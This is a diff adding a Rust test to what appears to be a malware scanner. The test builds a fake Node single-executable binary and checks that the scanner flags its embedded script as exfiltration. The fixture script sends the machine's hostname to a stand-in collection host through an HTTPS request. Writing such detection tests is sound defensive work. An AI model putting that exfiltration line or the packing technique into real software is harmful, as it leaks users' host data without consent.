@@ -288,3 +288,30 @@ fn node_modules_gives_one_report_per_installed_package() {
     assert!(findings("@s/b@1.0.0") > 0);
     assert!(findings("c@1.0.0") > 0);
 }
+
+/// A hand-built Node single executable application: the flipped fuse and a `NODE_SEA_BLOB`
+/// (Node 21+ layout: magic, flags, main script path, code). Its main script is analysed as
+/// `app › main.js`, with locations inside that script.
+#[test]
+fn node_sea_executable_main_script_is_analysed() {
+    let code: &[u8] = b"const os = require('os');\nrequire('https').get('https://collect.example-metrics.top/u?h=' + os.hostname());\n";
+    let mut exe = b"\x7fELF\x02\x01\x01\0".to_vec();
+    exe.extend_from_slice(&[0; 56]);
+    exe.extend_from_slice(b"NODE_SEA_FUSE_fce680ab2cc467b6e072b8b5df1996b2:1\0");
+    exe.extend_from_slice(&0x0143_da20u32.to_le_bytes());
+    exe.extend_from_slice(&1u32.to_le_bytes());
+    for field in [b"/build/app/main.js".as_slice(), code] {
+        exe.extend_from_slice(&(field.len() as u64).to_le_bytes());
+        exe.extend_from_slice(field);
+    }
+    exe.extend_from_slice(&[0; 32]);
+    let dir = tempfile::tempdir().unwrap();
+    write(dir.path(), "app", &exe);
+    let out = telltale().args(["scan", "--format", "json"]).arg(dir.path().join("app")).output().unwrap();
+    let doc: serde_json::Value = serde_json::from_slice(&out.stdout).unwrap();
+    let findings = doc["targets"][0]["findings"].as_array().cloned().unwrap_or_default();
+    let exfil = findings.iter().find(|f| f["category"] == "exfiltration").unwrap_or_else(|| panic!("no exfiltration finding: {doc}"));
+    assert!(exfil["file"].as_str().unwrap().ends_with("app › main.js"), "{exfil}");
+    assert_eq!(exfil["line"], 2, "{exfil}");
+    assert!(exfil["endpoints"].to_string().contains("collect.example-metrics.top"), "{exfil}");
+}
